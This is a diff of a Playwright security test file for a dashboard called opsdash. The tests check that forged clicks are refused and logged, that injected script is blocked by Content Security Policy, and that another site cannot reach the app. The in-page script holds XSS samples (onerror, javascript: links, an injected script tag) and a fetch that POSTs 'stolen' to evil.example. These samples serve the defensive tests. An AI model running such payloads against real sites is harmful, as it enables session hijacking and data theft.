@@ -2,30 +2,31 @@
 
 from __future__ import annotations
 
-import asyncio
+import http.server
 import json
 import os
+import re
 import socket
 import subprocess
 import sys
+import threading
 import time
+import urllib.request
 from collections.abc import Callable, Iterator
-from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
 import pytest
 import redis
-from bokeh.util.token import generate_jwt_token, generate_session_id
 from playwright.sync_api import Page, expect
 from support import services
-from tornado.httpclient import HTTPClientError, HTTPRequest
-from tornado.websocket import websocket_connect
+from support.workers import eventually
 
 import opsdash
 from opsdash.keys import Keys
 from opsdash.model import Status
-from opsdash.serving import session_key
+from opsdash.services.tables import tenant_config
+from opsdash.web.users import Users
 
 KEYS = Keys()
 ROOT = Path(__file__).parents[2]
@@ -100,7 +101,8 @@ def test_a_viewer_sees_everything_and_is_told_why_the_buttons_are_off(
 def test_a_viewer_who_crafts_the_messages_of_a_click_is_refused_and_the_attempt_is_in_the_log(
     by_proxy: Any, visit: Callable[..., Page], store: redis.Redis
 ) -> None:
-    page = visit(by_proxy.url, extra_http_headers={"X-Auth-Request-User": "eve", "X-Auth-Request-Groups": "support"})
+    eve = {"X-Auth-Request-User": "eve", "X-Auth-Request-Groups": "support", "X-Forwarded-For": "8.8.8.8, 203.0.113.9"}
+    page = visit(by_proxy.url, extra_http_headers=eve)
     expect(page.get_by_text("Processing Status: RUNNING")).to_be_visible()
     pause = page.get_by_role("button", name="Pause Processing", exact=True)
     pause.evaluate("button => { button.disabled = false; button.click() }")
@@ -110,6 +112,7 @@ def test_a_viewer_who_crafts_the_messages_of_a_click_is_refused_and_the_attempt_
     assert not store.exists(KEYS.pause())
     newest = by_proxy.console.get_recent_operations(limit=1)[0]
     assert (newest.user, newest.operation, newest.status) == ("eve", "pause_processing", Status.REFUSED)
+    assert newest.details["client"] == "203.0.113.9"  # as the proxy saw it, not as she says
 
 
 @pytest.mark.parametrize(
@@ -138,58 +141,142 @@ def test_without_a_configured_identity_the_page_explains_how_and_shows_nothing(
     shoot(page, "closed")
 
 
-def websocket_opens(url: str, token: str, origin: str) -> bool:
-    """Whether the server lets a client with this token in."""
+def test_a_tenants_name_and_the_users_own_are_shown_and_never_run(
+    serve_page: Callable[..., Any], visit: Callable[..., Page]
+) -> None:
+    served = serve_page(auth="header", operators=("*",), environment="staging")
+    row = {"tenant_id": PAYLOAD, "name": PAYLOAD, "enabled": True, "settings": {PAYLOAD: PAYLOAD}, "api_key": "k" * 20}
+    with served.console.engine.begin() as database:
+        database.execute(tenant_config.insert().values(row))
+    try:
+        page = visit(served.url, extra_http_headers={"X-Auth-Request-User": PAYLOAD})
+        expect(page.get_by_text(f"{PAYLOAD} · operator")).to_be_visible()
+        page.get_by_role("button", name="Sync Tenant Configs", exact=True).click()
+        page.get_by_label("Type YES to confirm").fill("YES")
+        page.get_by_role("button", name="Confirm", exact=True).click()
+        expect(page.get_by_role("alert").first).to_be_visible()
+        newest = page.get_by_role("region", name="Recent Operations").locator("tbody tr").first
+        expect(newest).to_contain_text("Sync Tenant Configs")
+        expect(newest).to_contain_text(PAYLOAD)
+        page.get_by_role("button", name="Show details").first.click()
+        page.wait_for_timeout(300)  # an image that a text had made would be asked for, and `visit` would see it
+        assert page.evaluate("window.__opened") is None
+    finally:
+        with served.console.engine.begin() as database:
+            database.execute(tenant_config.delete())
 
-    async def attempt() -> bool:
-        request = HTTPRequest(url, headers={"Origin": origin, "Sec-WebSocket-Protocol": f"bokeh, {token}"})
-        try:
-            connection = await websocket_connect(request, subprotocols=["bokeh", token])
-        except HTTPClientError:
-            return False
-        let_in = await connection.read_message() is not None  # None: the server hung up
-        connection.close()
-        while let_in and await connection.read_message() is not None:
-            pass
-        return let_in
 
-    async def in_time() -> bool:
-        return await asyncio.wait_for(attempt(), 10)
-
-    with ThreadPoolExecutor(1) as pool:  # Playwright's loop runs in this thread
-        return pool.submit(asyncio.run, in_time()).result()
-
-
-def test_a_home_made_session_token_that_says_maria_is_not_maria(by_proxy: Any) -> None:
-    headers = {"X-Auth-Request-User": "maria"}
-    address = f"ws://127.0.0.1:{by_proxy.port}/operations/ws"
-    origin = f"http://127.0.0.1:{by_proxy.port}"
-    for signed, key in ((False, None), (True, b"guessed-key")):
-        session = generate_session_id(secret_key=key, signed=signed)
-        token = generate_jwt_token(
-            session, secret_key=key, signed=signed, extra_payload={"headers": headers, "cookies": {}, "arguments": {}}
-        )
-        assert not websocket_opens(address, token, origin)
-    known = session_key(by_proxy.console.settings).encode()
-    token = generate_jwt_token(
-        generate_session_id(secret_key=known, signed=True),
-        secret_key=known,
-        signed=True,
-        extra_payload={"headers": headers, "cookies": {}, "arguments": {}},
+def test_a_script_that_got_into_the_page_all_the_same_would_not_run(
+    served: Any, visit: Callable[..., Page], watch: Any
+) -> None:
+    watch.tolerate = ("Content Security Policy", "404 (Not Found)", "evil.example")  # asked for, and blocked
+    page = visit(served.url)
+    page.evaluate(
+        """() => {
+            window.refused = []
+            const note = (event) => window.refused.push(event.effectiveDirective)
+            document.addEventListener('securitypolicyviolation', note)
+            const box = document.body.appendChild(document.createElement('div'))
+            box.innerHTML = `<img src=x onerror="window.__opened=1"><a href="javascript:window.__opened=1">x</a>
+                <iframe src="http://evil.example/"></iframe><img src="http://evil.example/x.png">`
+            const script = document.createElement('script')
+            script.textContent = 'window.__opened=1'
+            box.append(script)
+            box.querySelector('a').click()
+            fetch('http://evil.example/', {method: 'POST', body: 'stolen'}).catch(() => {})
+            setTimeout('window.__opened=1', 0)
+        }"""
     )
-    assert websocket_opens(address, token, origin)  # the check above fails for the right reason
-    assert not websocket_opens(address, token, "http://evil.example")
+    expected = {"script-src-elem", "script-src-attr", "frame-src", "img-src", "connect-src", "script-src"}
+    eventually(lambda: expected <= set(page.evaluate("window.refused")), what="each attempt's refusal")
+    assert page.evaluate("window.__opened") is None
 
 
-def test_a_link_that_names_its_session_is_turned_away(by_proxy: Any, visit: Callable[..., Page]) -> None:
-    # An id of one's own is refused by Bokeh; one that the server signed, earlier, for somebody else is refused by us.
-    signed = generate_session_id(secret_key=session_key(by_proxy.console.settings).encode(), signed=True)
-    page = visit(
-        f"{by_proxy.url}?bokeh-session-id={signed}",
-        ready="This link can't be used",
-        extra_http_headers={"X-Auth-Request-User": "maria"},
+@pytest.fixture
+def elsewhere() -> Iterator[str]:
+    """Another site, on another port of this machine."""
+
+    class Site(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(b"<!doctype html><link rel=icon href=data:,><title>evil</title>nice kittens")
+
+        def log_message(self, *_args: object) -> None:
+            """Says nothing."""
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}/"
+        server.shutdown()
+
+
+def test_another_sites_page_reaches_nothing_in_a_browser_that_is_signed_in(
+    by_proxy: Any, visit: Callable[..., Page], watch: Any, elsewhere: str
+) -> None:
+    signed_in = {"X-Auth-Request-User": "maria"}  # the proxy adds it to whatever the browser sends
+    token = re.findall(r'"token":"([^"]+)"', visit_text(by_proxy, signed_in))[0]
+    watch.tolerate = ("403", "404", "WebSocket", "CORS", "ERR_", "X-Frame", "frame", "blocked")
+    page = visit(elsewhere, ready="nice kittens", extra_http_headers=signed_in)
+    before = len(by_proxy.console.get_recent_operations(limit=20))
+    reached = page.evaluate(
+        """async ([root, token]) => {
+            const outcome = {}
+            outcome.socket = await new Promise((done) => {
+                const socket = new WebSocket(root.replace('http', 'ws') + '/operations/ws', ['bokeh', token])
+                socket.onopen = () => done('open')
+                socket.onerror = () => done('refused')
+            })
+            outcome.script = await new Promise((done) => {
+                const script = document.createElement('script')
+                script.src = root + '/operations/autoload.js?bokeh-autoload-element=x'
+                script.onload = () => done('loaded')
+                script.onerror = () => done('refused')
+                document.head.append(script)
+            })
+            for (const method of ['GET', 'POST'])
+                outcome[method] = await fetch(root + '/operations', {method, credentials: 'include'})
+                    .then((answer) => answer.text(), () => 'refused')
+            outcome.blind = await fetch(root + '/operations', {method: 'POST', mode: 'no-cors', body: 'x'})
+                .then((answer) => answer.type, () => 'refused')
+            return outcome
+        }""",
+        [by_proxy.root, token],
     )
-    expect(page.get_by_text("Processing Status")).to_have_count(0)
+    assert reached == {
+        "socket": "refused",
+        "script": "refused",
+        "GET": "refused",
+        "POST": "refused",
+        "blind": "refused",
+    }
+    assert len(by_proxy.console.get_recent_operations(limit=20)) == before
+
+
+def visit_text(served: Any, headers: dict[str, str]) -> str:
+    """The page as a program fetches it."""
+    with urllib.request.urlopen(urllib.request.Request(served.url, headers=headers)) as answer:
+        text: str = answer.read().decode()
+    return text
+
+
+def test_a_small_team_signs_in_with_names_and_passwords(
+    serve_page: Callable[..., Any], visit: Callable[..., Page], tmp_path: Path, shoot: Callable[..., None]
+) -> None:
+    users = Users(tmp_path / "users")
+    users.put("maria", "correct horse battery")
+    served = serve_page(auth="basic", users_file=str(users.path), operators=("maria",))
+    page = visit(served.url, ready="Sign in to opsdash", apart=True)
+    shoot(page, "sign_in")
+    page.get_by_label("User name").fill("maria")
+    page.get_by_label("Password").fill("correct horse battery")
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_text("maria · operator")).to_be_visible()
+    expect(page.get_by_text("Processing Status: RUNNING")).to_be_visible()
+    page.goto(f"{served.root}/logout")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("heading", name="Sign in to opsdash")).to_be_visible()
 
 
 def test_the_page_lives_under_a_prefix_and_answers_a_health_check_without_a_session(
